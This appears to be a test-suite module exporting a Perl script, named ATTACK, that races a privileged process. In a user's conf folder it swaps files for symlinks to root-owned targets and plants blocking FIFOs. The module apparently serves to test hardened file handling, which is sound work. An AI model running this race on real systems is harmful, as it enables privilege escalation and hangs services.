/**
 * A program for perl: what another user does in his own folder HOME/conf as fast as he can. He leads the
 * folder, the targets good, gone and sub, and what is staged, to root's files in VICTIMS, and plants what
 * hangs whoever opens it. Says `ready` once it begins.
 */
export const ATTACK = `use strict; use POSIX;
my ($home, $victims) = @ARGV; chdir $home or die; my $n = 0;
sub nap { select undef, undef, undef, rand(0.003) }
$| = 1; print "ready\\n";
while (1) {
  $n++;
  opendir my $folder, 'conf' or next;
  for my $name (grep { /^\\.[^.]/ } readdir $folder) {
    rename "conf/$name", "conf/x$n" and symlink $victims, "conf/$name";
  }
  for my $name ('good', 'gone', 'sub') {
    next unless rand() < 0.2;
    rename "conf/$name", "conf/y$n";
    my $kind = int rand 3;
    if ($kind == 0) { symlink "$victims/secret", "conf/$name" }
    elsif ($kind == 1) { symlink $victims, "conf/$name" }
    else { POSIX::mkfifo("conf/$name", 0666) }
    nap();
    unlink "conf/$name";
  }
  next unless rand() < 0.2;
  rename 'conf', 'real' and symlink $victims, 'conf' or next;
  nap();
  unlink 'conf'; rename 'real', 'conf';
}`;
